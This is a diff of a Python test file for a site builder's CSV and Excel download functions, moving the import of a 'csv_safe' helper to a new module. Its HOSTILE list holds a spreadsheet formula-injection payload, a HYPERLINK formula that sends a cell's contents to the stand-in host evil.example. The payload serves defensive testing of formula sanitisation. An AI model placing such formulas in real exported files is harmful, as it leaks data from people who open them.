@@ -9,8 +9,8 @@ import pandas as pd
 import pytest
 from openpyxl import load_workbook
 
+from site_builder.present.sheetcells import csv_safe
 from site_builder.site.downloads import csv_bytes, xlsx_bytes
-from site_builder.site.sheetcells import csv_safe
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?leak="&A2,"点击")',
